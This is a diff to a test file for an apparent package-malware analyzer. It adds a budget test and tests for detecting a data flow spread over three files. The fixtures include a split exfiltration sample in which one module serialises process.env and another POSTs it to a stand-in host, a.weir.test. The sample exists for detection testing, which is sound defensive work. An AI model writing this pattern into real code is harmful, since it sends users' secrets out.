@@ -2,6 +2,7 @@ import type { Detector } from '@weir/detectors';
 import { type AnalysisResult, type ArtifactView, analysisResultSchema } from '@weir/model';
 import { describe, expect, test } from 'vitest';
 import { type AnalyzeOptions, analyzeArtifact } from './analyze.ts';
+import { DEFAULT_ANALYSIS_BUDGET } from './limits.ts';
 import { createMemoryView } from './memory-view.ts';
 
 type Files = Readonly<Record<string, string | Uint8Array>>;
@@ -129,10 +130,11 @@ describe('unknown is not clean', () => {
 
   test('a spent budget names what was not read', async () => {
     const files = { 'package/package.json': pkg({ main: 'a.js' }), 'package/a.js': 'x'.repeat(100) };
-    const budget = { parsedBytesMax: 10, parsedFilesMax: 10, timeMsMax: 1000, detectorMsMax: 1000 };
+    const budget = { ...DEFAULT_ANALYSIS_BUDGET, parsedBytesMax: 10 };
     const result = await analyze(files, { budget });
     expect(result.judgement.verdict).toBe('inconclusive');
     expect(result.skipped.map((skipped) => skipped.file)).toEqual(['a.js']);
+    expect(result.findings.map((finding) => finding.rule)).toEqual(['analysis/budget-release']);
   });
 
   test('deep nesting is a finding and leaves the verdict open', async () => {
@@ -210,5 +212,31 @@ describe('what a finding says', () => {
     });
     expect(result.judgement.verdict).toBe('malicious');
     expect(JSON.stringify(result)).not.toMatch(/\\u0000|\\ud800/);
+  });
+});
+
+describe('chains over three files', () => {
+  const gather = `exports.all = () => JSON.stringify(process.env);`;
+  const send = `exports.send = (data) => fetch('https://a.weir.test/', { method: 'POST', body: data });`;
+  const glue = `const a = require('./a'); require('./b').send(a.all());`;
+  const files = { 'package/package.json': pkg({}), 'package/index.js': glue };
+
+  test('a file that only hands on is followed where another gathers and a third one sends', async () => {
+    const result = await analyze({ ...files, 'package/a.js': gather, 'package/b.js': send });
+    expect(result.findings[0]).toMatchObject({
+      rule: 'env-to-network/environment',
+      location: { file: 'index.js', line: 1 },
+    });
+  });
+
+  test('without one of the ends there is no chain', async () => {
+    const quiet = `exports.send = (data) => data; exports.all = () => 1;`;
+    for (const [a, b] of [
+      [gather, quiet],
+      [quiet, send],
+    ] as const) {
+      const result = await analyze({ ...files, 'package/a.js': a, 'package/b.js': b });
+      expect(result.findings).toEqual([]);
+    }
   });
 });
